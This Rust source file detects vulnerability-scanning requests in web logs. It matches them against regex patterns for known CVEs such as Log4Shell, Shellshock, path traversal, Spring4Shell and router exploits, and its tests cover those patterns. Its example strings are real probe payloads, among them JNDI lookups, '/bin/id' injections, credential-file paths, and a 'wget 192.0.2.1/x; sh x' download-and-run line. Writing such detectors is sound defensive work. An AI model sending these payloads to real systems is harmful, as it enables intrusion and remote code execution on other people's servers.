@@ -1,0 +1,282 @@
+//! Requests for well-known holes: is somebody trying the doors?
+//!
+//! Takes a request, says whether it looks for one of the holes in [`PROBES`]. A request is read as a server would: log
+//! escapes undone, then percent signs, twice, since filters are got around with `%252e`. Few patterns, each with its
+//! source: a request that people make too is no probe, however often scanners make it. So `/wp-login.php`, `/xmlrpc.php`,
+//! `/phpmyadmin/`, `/actuator/health` (monitors) and a single `../` in a query do not count.
+
+use std::borrow::Cow;
+use std::sync::LazyLock;
+
+use regex::bytes::Regex;
+
+use super::path::split_target;
+use crate::parse::web::{self, Web};
+
+/// One well-known hole, and the requests that look for it.
+#[derive(Debug, Clone, Copy)]
+pub struct Probe {
+    /// What people call it.
+    pub name: &'static str,
+    /// Where the pattern is looked for.
+    pub place: Place,
+    /// A regular expression over bytes, in any case.
+    pub pattern: &'static str,
+    /// The flaw's number, or the page that describes it.
+    pub source: &'static str,
+    /// What stands in that place of a request that looks for it.
+    pub example: &'static str,
+}
+
+/// A part of a request.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Place {
+    /// The path of the target, decoded.
+    Path,
+    /// The target with its query, decoded.
+    Target,
+    /// The user agent or the referrer, and the decoded target.
+    Anywhere,
+    /// The user agent or the referrer.
+    Header,
+}
+
+const fn probe(name: &'static str, place: Place, pattern: &'static str, source: &'static str, example: &'static str) -> Probe {
+    Probe { name, place, pattern, source, example }
+}
+
+/// Every hole that is known. Patterns and examples are the project's own.
+#[rustfmt::skip]
+pub const PROBES: &[Probe] = &[
+    // Browsers resolve `..` before they ask, so one in a path is a tool's; `\xc0\xaf` and `\xc1\x9c` are overlong `/` and `\`.
+    probe("path traversal", Place::Path, r"(?:^|[/\\]|\xc0\xaf|\xc1\x9c)\.\.(?:[/\\;]|\xc0\xaf|\xc1\x9c|$)", "CVE-2021-41773, CVE-2021-42013, CVE-2020-5902, CVE-2000-0884", "/cgi-bin/.%2e/.%%32%65/%252e%252e/bin/id"),
+    probe("path traversal in a query", Place::Target, r"\?.*(?:\.\.[/\\]+){2}", "CVE-2018-13379; CWE-22", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+    probe("password file", Place::Target, r"/etc/(?:passwd|shadow)(?:[^\w.-]|$)|/proc/self/environ|[/\\]windows[/\\]win\.ini", "OWASP WSTG-ATHZ-01", "/download?file=/etc/passwd%00.html"),
+    probe("Shellshock", Place::Header, r"^\(\) ?\{", "CVE-2014-6271", "() { :; }; /bin/id"),
+    probe("Shellshock in a target", Place::Target, r"(?:^|[/?&=])\(\) ?\{ ?:?;? ?\}?;", "CVE-2014-6271", "/cgi-bin/status?()%20{%20:;};%20/bin/id"),
+    probe("Log4Shell", Place::Anywhere, r"\$\{(?:jndi:|[jndi]{0,3}\$\{|(?:lower|upper|env|sys|base64|date):|:+-)", "CVE-2021-44228, CVE-2021-45046", "${${lower:j}ndi:${::-l}dap://192.0.2.1/a}"),
+    probe("environment file", Place::Path, r"/\.env(?:[._~-][^/]*)?$", "CVE-2017-16894; CWE-538", "/api/.env.production"),
+    probe("version control", Place::Path, r"/\.(?:git|svn|hg|bzr)(?:/|$)|/\.git(?:config|-credentials)$", "CWE-527", "/.git/config"),
+    probe("key or credentials file", Place::Path, r"/\.(?:aws/(?:credentials|config)|ssh/(?:id_[a-z0-9]+|authorized_keys)|docker/config\.json|vscode/sftp\.json|htpasswd)$", "CWE-538; OWASP WSTG-CONF-04", "/.aws/credentials"),
+    probe("wp-config backup", Place::Path, r"/[.#]?wp-config(?:\.php[.~_#-][^/]*|\.(?:bak|old|orig|save|txt|zip|inc|swp))$", "OWASP WSTG-CONF-04; WordPress, Hardening WordPress", "/wp-config.php.bak"),
+    probe("PHPUnit eval-stdin", Place::Path, r"/eval-stdin\.php$", "CVE-2017-9841", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+    probe("shell in cgi-bin", Place::Path, r"/cgi-bin/(?:.*/)?(?:ba|da|z|k|c)?sh$", "CVE-2021-41773; CERT advisory CA-1996-11", "/cgi-bin/bash"),
+    probe("php-cgi argument", Place::Target, r"\?.*(?:-|\xad)d[ +]*allow_url_include", "CVE-2012-1823, CVE-2024-4577", "/index.php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
+    probe("ThinkPHP", Place::Target, r"think[/\\]+app[/\\]+invokefunction", "CVE-2018-20062", r"/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array"),
+    probe("Laravel Ignition", Place::Path, r"/_ignition/execute-solution$", "CVE-2021-3129", "/_ignition/execute-solution"),
+    probe("Spring actuator", Place::Path, r"/actuator(?:/(?:env|gateway/.*|heapdump|threaddump|configprops|mappings|beans|jolokia|logfile|httptrace|trace))?/?$", "CVE-2022-22947; Spring Boot, Actuator endpoints", "/actuator/gateway/routes"),
+    probe("Spring4Shell", Place::Target, r"class\.module\.classloader\.", "CVE-2022-22965", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
+    probe("Java expression", Place::Target, r"@?java\.lang\.(?:runtime|processbuilder)\b", "CVE-2022-26134, CVE-2017-5638", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/"),
+    probe("ProxyShell", Place::Target, r"/autodiscover\.json.*@.*(?:powershell|/mapi/nspi)", "CVE-2021-34473", "/autodiscover/autodiscover.json?a@b.example/powershell"),
+    probe("WebLogic wls-wsat", Place::Path, r"^/wls-wsat/", "CVE-2017-10271", "/wls-wsat/CoordinatorPortType"),
+    probe("GPON router", Place::Path, r"^/(?:boaform|gponform)/", "CVE-2020-8958, CVE-2018-10561", "/boaform/admin/formLogin"),
+    probe("D-Link HNAP", Place::Path, r"^/hnap1/?$", "CVE-2015-2051", "/HNAP1/"),
+    probe("MVPower recorder", Place::Target, r"^/shell\?.*\bcd[ +]+/", "CVE-2016-20016", "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/x;sh+x"),
+    probe("NETGEAR setup.cgi", Place::Target, r"/setup\.cgi\?.*todo=syscmd", "CVE-2024-12847", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/"),
+    probe("DrayTek Vigor", Place::Path, r"^/cgi-bin/mainfunction\.cgi", "CVE-2020-8515", "/cgi-bin/mainfunction.cgi"),
+    probe("TP-Link Archer", Place::Path, r"^/cgi-bin/luci/;stok=/locale", "CVE-2023-1389", "/cgi-bin/luci/;stok=/locale?form=country&operation=write"),
+    probe("Hikvision camera", Place::Path, r"^/sdk/weblanguage$", "CVE-2021-36260", "/SDK/webLanguage"),
+    probe("nmap", Place::Path, r"^/nmaplowercheck\d+$|^/nice ports,/trinity\.txt\.bak$", "nmap nselib/http.lua, nmap-service-probes FourOhFourRequest", "/nice%20ports%2C/Tri%6Eity.txt%2ebak"),
+];
+
+/// Whether a request looks for one of [`PROBES`].
+#[must_use]
+pub fn is_probe(web: &Web<'_>) -> bool {
+    let Some(probes) = PATTERNS.as_ref() else { return false };
+    let headers = [web.agent, web.referrer];
+    web.target().is_some_and(|target| probes.finds_in_target(&web.plain(target)))
+        || headers.into_iter().flatten().any(|header| probes.header.is_match(&web.plain(header)))
+}
+
+/// The patterns of the table, joined by what they are looked for in. `None` cannot be, and a test would say so.
+static PATTERNS: LazyLock<Option<Patterns>> = LazyLock::new(|| Patterns::build().ok());
+
+struct Patterns {
+    path: Regex,
+    target: Regex,
+    header: Regex,
+}
+
+impl Patterns {
+    fn build() -> Result<Self, regex::Error> {
+        let join = |places: &[Place]| {
+            let patterns: Vec<_> = PROBES.iter().filter(|probe| places.contains(&probe.place)).map(|probe| probe.pattern).collect();
+            Regex::new(&format!("(?is-u){}", patterns.join("|")))
+        };
+        Ok(Self {
+            path: join(&[Place::Path])?,
+            target: join(&[Place::Target, Place::Anywhere])?,
+            header: join(&[Place::Header, Place::Anywhere])?,
+        })
+    }
+
+    fn finds_in_target(&self, target: &[u8]) -> bool {
+        // The path is cut off before it is decoded: an encoded `?` is part of a name.
+        let (path, query) = split_target(target);
+        let path = decode(path);
+        if self.path.is_match(&path) {
+            return true;
+        }
+        match query {
+            Some(query) => self.target.is_match(&[&path, &b"?"[..], &decode(query)].concat()),
+            None => self.target.is_match(&path),
+        }
+    }
+}
+
+/// Undoes percent signs twice; what is no escape stays. Never longer than what came.
+///
+/// **Source:** RFC 3986 section 2.1; twice because of CVE-2021-42013.
+fn decode(text: &[u8]) -> Cow<'_, [u8]> {
+    if memchr::memchr(b'%', text).is_none() {
+        return Cow::Borrowed(text);
+    }
+    Cow::Owned(decode_once(&decode_once(text)))
+}
+
+fn decode_once(text: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(text.len());
+    let mut rest = text;
+    while let [byte, after @ ..] = rest {
+        let digits = match after {
+            [high, low, ..] if *byte == b'%' => web::hex(*high).zip(web::hex(*low)),
+            _ => None,
+        };
+        out.push(digits.map_or(*byte, |(high, low)| high << 4 | low));
+        rest = if digits.is_some() { &after[2..] } else { after };
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::parse::web::Escaping;
+
+    fn fires(target: &str, agent: &str) -> bool {
+        let request = format!("GET {target} HTTP/1.1");
+        is_probe(&Web {
+            client: b"192.0.2.1",
+            domain: None,
+            user: None,
+            time: None,
+            request: Some(request.as_bytes()),
+            status: Some(404),
+            body_bytes: None,
+            referrer: None,
+            agent: Some(agent.as_bytes()),
+            forwarded: None,
+            escaping: Escaping::Logged,
+        })
+    }
+
+    #[test]
+    fn every_probe_fires_on_its_example_and_by_its_own_pattern() {
+        for probe in PROBES {
+            let is_header = probe.place == Place::Header;
+            // Logs double a backslash.
+            let logged = probe.example.replace('\\', r"\\");
+            let (target, agent) = if is_header { ("/", &*logged) } else { (&*logged, "Mozilla/5.0") };
+            assert!(fires(target, agent), "{}", probe.name);
+            let (path, query) = split_target(probe.example.as_bytes());
+            let whole = [&decode(path)[..], query.map_or(&b""[..], |_| b"?"), &decode(query.unwrap_or_default())].concat();
+            let text = match probe.place {
+                Place::Path => decode(path).into_owned(),
+                Place::Target | Place::Anywhere => whole,
+                Place::Header => probe.example.into(),
+            };
+            let own = Regex::new(&format!("(?is-u){}", probe.pattern)).expect("a pattern");
+            assert!(own.is_match(&text), "{}: another pattern finds the example", probe.name);
+            assert_eq!(PROBES.iter().filter(|other| other.name == probe.name).count(), 1, "{} stands twice", probe.name);
+        }
+    }
+
+    #[test]
+    fn what_is_hidden_is_seen() {
+        for target in [
+            "/../../etc/hosts",
+            "/a/..",
+            "/static/..%5c..%5cwindows",
+            "/static/%2e%2e/x",
+            "/static/%252e%252e%252fx",
+            "/scripts/..%c0%af../winnt/system32/cmd.exe",
+            "/tmui/login.jsp/..;/tmui/locallb/",
+            "http://host.example/.env",
+            "/.ENV",
+            "/%2eenv",
+            "/.git",
+            "/blog/.git/HEAD",
+            "/?x=${jndi:ldap://192.0.2.1/a}",
+            "/?x=%24%7Bjndi%3Aldap%3A//192.0.2.1/a%7D",
+            "/?x=${j${::-n}di:ldap://192.0.2.1}",
+            "/$%7B$%7Benv:X:-j%7Dndi:rmi://192.0.2.1%7D",
+            "/.wp-config.php.swp",
+            "/wp-config.php~",
+            "/?f=..%2f..%2f..%2fboot.ini",
+            "/actuator",
+            "/api/actuator/heapdump",
+        ] {
+            assert!(fires(target, "Mozilla/5.0"), "{target}");
+        }
+        for agent in ["() { :;}; echo", "(){ x", "${jndi:dns://192.0.2.1}", r"\x24{jndi:ldap://192.0.2.1}"] {
+            assert!(fires("/", agent), "{agent}");
+        }
+    }
+
+    #[test]
+    fn ordinary_requests_are_none() {
+        for target in [
+            "/",
+            "*",
+            "/index.html",
+            "/a..b",
+            "/file...txt",
+            "/releases/v1..v2.diff",
+            "/..hidden",
+            "/search?q=../",
+            "/search?q=..%2F",
+            "/go?to=../next/page",
+            "/.well-known/acme-challenge/token",
+            "/.well-known/security.txt",
+            "/environment",
+            "/.environment",
+            "/.envoy/x",
+            "/docs/.env-guide/page",
+            "/docs/git/",
+            "/.github/workflows/ci.yml",
+            "/.gitignore",
+            "/team/project.git/info/refs?service=git-upload-pack",
+            "/wp-login.php",
+            "/wp-admin/admin-ajax.php",
+            "/wp-config.php",
+            "/docs/wp-config.php",
+            "/xmlrpc.php",
+            "/phpmyadmin/",
+            "/docs/etc/passwd.html",
+            "/man/etc/passwd-format",
+            "/search?q=/etc/passwd.5",
+            "/cgi-bin/search.sh.html",
+            "/cgi-bin/status.cgi",
+            "/cgi-bin/luci/;stok=0123456789abcdef/admin",
+            "/actuator/health",
+            "/actuator/prometheus",
+            "/actuators/list",
+            "/phpunit/docs/",
+            "/shell?topic=bash",
+            "/setup.cgi?next_file=index.htm",
+            "/autodiscover/autodiscover.json?Email=user@host.example&Protocol=ActiveSync",
+            "/search?q=class+module+java.lang.String",
+            "/page?callback=function(){return+1}",
+            "/page?tpl=${name}",
+            "/price?x=$%7Bamount%7D",
+            "/hnap1x/",
+            "/100%25-off",
+            "/50%",
+            "/a%zz",
+        ] {
+            assert!(!fires(target, "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"), "{target}");
+        }
+        assert!(!fires("/", "x () { y"));
+        assert!(PATTERNS.is_some());
+    }
+}
